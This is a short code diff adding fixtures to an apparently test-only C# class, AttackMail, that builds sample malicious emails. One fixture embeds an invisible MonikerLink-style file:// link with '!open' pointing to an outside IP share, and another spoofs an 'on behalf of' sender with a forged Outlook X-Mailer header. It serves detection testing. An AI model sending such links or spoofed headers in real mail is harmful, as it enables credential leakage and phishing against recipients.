@@ -74,6 +74,19 @@ internal static class AttackMail
     public static string GiftGuideNewsletter(string from, string messageId, string domain, params string[] recipients) =>
         Newsletter(from, messageId, domain, extra: """<p>Our gift guide: <a href="https://fabrikam-gifts.netlify.app/">fabrikam-gifts.netlify.app</a></p>""", recipients);
 
+    /// <summary>The same newsletter with an invisible link through the MonikerLink exploit: malicious on its own.</summary>
+    public static string NewsletterWithMonikerLink(string from, string messageId, string domain, params string[] recipients) =>
+        Newsletter(from, messageId, domain, extra: """<a href="file://198.51.100.5/share/catalogue.rtf!open"></a>""", recipients);
+
+    /// <summary>The same newsletter sent on behalf of another sender, by a mail client that says it is Outlook.</summary>
+    public static string NewsletterOnBehalfOf(string sender, string from, string messageId, string domain, params string[] recipients)
+    {
+        var message = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(Newsletter(from, messageId, domain, recipients))));
+        message.Sender = MailboxAddress.Parse(sender);
+        message.Headers.Add("X-Mailer", "Microsoft Outlook 16.0");
+        return message.ToString();
+    }
+
     private static string Newsletter(string from, string messageId, string domain, string extra, string[] recipients)
     {
         var message = new MimeMessage
